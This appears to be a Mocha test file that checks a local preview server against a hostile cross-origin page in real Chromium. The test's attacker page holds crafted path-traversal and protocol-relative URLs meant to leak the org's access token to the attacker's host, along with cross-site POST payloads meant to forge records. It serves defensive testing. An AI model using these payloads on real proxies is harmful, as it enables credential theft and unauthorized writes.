/**
 * A page on another origin, in real Chromium, attacks the preview while it is running against an org:
 * it makes the browser load preview URLs that would send the org's token to the attacker's host, and
 * it posts records through the preview the ways a cross-site page can (no-cors text/plain, CORS JSON).
 * None may reach the attacker or the org; the preview's own page still writes.
 */
import { expect } from 'chai';
import { launchChromium, type Chromium } from '../../scripts/preview/chromium.js';
import { startPreview, type Preview } from '../../scripts/preview/server.js';
import { startTestOrg, type TestOrg } from '../support/localOrg.js';
import { startAttacker, type Attacker } from '../adversarial/support/attacker.js';

const api = '/services/data/v62.0';

/** The attacker's page: every attack runs, then `window.attacksDone` is set. */
function attackPage(previewUrl: string, attackerHost: string): string {
  const leakTargets = [
    `${previewUrl}//${attackerHost}${api}/sobjects`,
    `${previewUrl}/\\${attackerHost}${api}/sobjects`,
    `${previewUrl}${api}/sobjects/..%2f..%2f..%2f..%2f..%2f/${attackerHost}/x`,
  ];
  return `<!doctype html><html><head><link rel="icon" href="data:,"></head><body><script>
const load = (src) => new Promise((resolve) => { const img = new Image(); img.onload = img.onerror = resolve; img.src = src; });
const post = (name, init) => fetch(${JSON.stringify(previewUrl + api)} + '/sobjects/Account', { method: 'POST', body: JSON.stringify({ Name: name }), ...init }).then(() => 'sent', (error) => String(error));
window.attacks = Promise.all([
  ...${JSON.stringify(leakTargets)}.map(load),
  post('Cross-site text', { mode: 'no-cors', headers: { 'content-type': 'text/plain' } }),
  post('Cross-site json', { mode: 'cors', headers: { 'content-type': 'application/json' } }),
  post('Cross-site form', { mode: 'no-cors', headers: { 'content-type': 'application/x-www-form-urlencoded' } }),
]).then(() => { window.attacksDone = true; });
</script></body></html>`;
}

describe('preview against a page on another origin, in Chromium', function () {
  this.timeout(240_000);
  let org: TestOrg;
  let preview: Preview;
  let attacker: Attacker;
  let chrome: Chromium;

  before(async () => {
    org = await startTestOrg();
    attacker = await startAttacker();
    // The server is under test, not the components: an empty bundle keeps the build out of it.
    preview = await startPreview({
      instanceUrl: org.instanceUrl,
      accessToken: org.accessToken,
      bundle: { code: '', components: [], sizes: [] },
    });
    chrome = await launchChromium();
  });

  after(async () => {
    await chrome?.close();
    await preview?.stop();
    await attacker?.stop();
    await org?.stop();
  });

  async function accountNames(): Promise<string[]> {
    const { records } = await org.conn.query<{ Name: string }>('SELECT Name FROM Account');
    return records.map((record) => record.Name);
  }

  it('sends neither the token to the attacker nor the attacker’s records to the org', async () => {
    // localhost and 127.0.0.1 are different sites to the browser, as attacker.example would be.
    const attackerHost = `localhost:${attacker.port}`;
    attacker.page('/attack', attackPage(preview.url, attackerHost));
    const page = await chrome.context.newPage();
    await page.goto(`http://${attackerHost}/attack`);
    await page.waitForFunction(() => (window as unknown as { attacksDone?: boolean }).attacksDone === true);
    await page.close();

    const leaked = attacker.seen.filter((request) => request.url !== '/attack');
    expect(leaked, 'requests the preview forwarded to the attacker').to.deep.equal([]);
    expect(attacker.seen.map((request) => request.authorization).filter(Boolean)).to.deep.equal([]);
    expect((await accountNames()).filter((name) => name.startsWith('Cross-site'))).to.deep.equal([]);
  });

  it('still writes for its own page', async () => {
    const page = await chrome.context.newPage();
    await page.goto(`${preview.url}/blank`);
    const status = await page.evaluate(
      async (url) =>
        (
          await fetch(url, {
            method: 'POST',
            headers: { 'content-type': 'application/json' },
            body: JSON.stringify({ Name: 'Own page' }),
          })
        ).status,
      `${api}/sobjects/Account`,
    );
    await page.close();
    expect(status).to.equal(201);
    expect(await accountNames()).to.include('Own page');
  });
});
